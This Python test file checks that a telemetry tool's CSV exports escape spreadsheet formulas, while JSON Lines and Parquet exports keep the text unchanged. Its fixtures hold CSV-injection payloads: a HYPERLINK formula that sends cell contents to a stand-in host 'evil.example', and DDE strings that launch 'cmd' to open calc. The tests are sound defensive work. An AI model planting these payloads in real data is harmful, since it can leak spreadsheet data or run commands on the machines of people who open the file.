"""CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection"); JSON Lines and Parquet
keep the data as sent (issue 35, item 5).

Span text (session and user ids, prompts, answers) and feedback fields come from clients: a
cell ``=HYPERLINK("http://evil",...)`` would run when the CSV is opened in a spreadsheet.
Spans come from the real OpenTelemetry SDK through the OTLP route; the export runs through
``driftline export`` and through the dashboard's ``to_bytes``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
from click.testing import CliRunner
from fastapi.testclient import TestClient

from collector.store import exports, queries
from collector.store.engine import make_engine
from driftline.cli import cli
from tests.support.agent_traces import agent_run, record, send

T0 = 1_780_000_000_000_000_000
SESSION = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
USER = "@SUM(1+1)*cmd|' /C calc'!A0"
QUESTION = "+1+cmd|' /C calc'!A0"
ANSWER = "-2+3"
COMMENT = "\t=1+1"
FB_USER = "\r=1+1"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _fill(client: TestClient) -> str:
    spans = record(
        lambda p: agent_run(p, session=SESSION, user=USER, t0=T0, question=QUESTION, answer=ANSWER)
    )
    send(client, spans, expect_calls=2)
    trace = client.get("/api/v1/calls").json()["items"][0]["trace_id"]
    fb = {"trace_id": trace, "kind": "thumbs_down", "comment": COMMENT, "user_id": FB_USER}
    assert client.post("/api/v1/feedback", json=fb).status_code == 202
    return str(trace)


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            assert not (cell.startswith(FORMULA) and not _is_number(cell)), (name, cell)


def test_csv_cells_that_start_a_formula_get_a_quote(
    client: TestClient, db_url: str, tmp_path: Path
) -> None:
    _fill(client)
    runner = CliRunner()
    base = ["--format", "csv", "--database-url", db_url, "--no-progress"]
    got: dict[str, list[dict[str, str]]] = {}
    for kind in ("calls", "traces", "feedback"):
        out = tmp_path / f"{kind}.csv"
        r = runner.invoke(cli, ["export", kind, *base, "--out", str(out)])
        assert r.exit_code == 0, r.output
        got[kind] = _rows(out.read_bytes())
        _assert_no_formula(got[kind])
    call = got["calls"][0]
    assert call["session_id"] == "'" + SESSION
    assert call["user_id"] == "'" + USER
    assert {c["output_text"] for c in got["calls"]} >= {"'" + ANSWER}
    assert got["traces"][0]["session_id"] == "'" + SESSION
    (fb,) = got["feedback"]
    assert (fb["comment"], fb["user_id"]) == ("'" + COMMENT, "'" + FB_USER)

    # the dashboard's download button writes through the same function
    engine = make_engine(db_url)
    try:
        pages = exports.iter_calls(engine, "default", queries.CallFilter())
        _assert_no_formula(_rows(exports.to_bytes(pages, "calls", "csv")))
    finally:
        engine.dispose()


def test_jsonl_and_parquet_keep_the_text_as_sent(
    client: TestClient, db_url: str, tmp_path: Path
) -> None:
    _fill(client)
    runner = CliRunner()
    for fmt in ("jsonl", "parquet"):
        out = tmp_path / f"calls.{fmt}"
        args = ["export", "calls", "--format", fmt, "--database-url", db_url, "--no-progress"]
        r = runner.invoke(cli, [*args, "--out", str(out)])
        assert r.exit_code == 0, r.output
        if fmt == "jsonl":
            rows = [json.loads(x) for x in out.read_text().splitlines()]
        else:
            rows = pq.read_table(out).to_pylist()
        assert {x["session_id"] for x in rows} == {SESSION}
        assert {x["user_id"] for x in rows} == {USER}
        assert ANSWER in {x["output_text"] for x in rows}


def test_csv_cell_rules() -> None:
    assert exports.csv_cell("=1+1") == "'=1+1"
    assert exports.csv_cell("\r\n@x") == "'\r\n@x"
    assert exports.csv_cell("a=1") == "a=1"
    assert exports.csv_cell(-1.5) == -1.5  # numbers stay numbers
    assert exports.csv_cell(None) is None
    assert exports.csv_cell(["=x"]) == '["=x"]'  # JSON text starts with [ or {
